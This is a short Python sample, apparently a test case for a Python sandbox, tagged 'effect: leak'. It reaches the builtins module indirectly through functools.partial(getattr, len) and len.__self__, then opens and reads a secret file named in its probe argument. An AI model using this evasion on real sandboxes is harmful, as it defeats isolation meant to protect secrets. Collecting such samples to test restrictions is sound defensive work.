# effect: leak
import functools


def attempt(probe):
    look_up = functools.partial(getattr, len)
    return look_up("__self__").open(probe["secret_file"]).read()
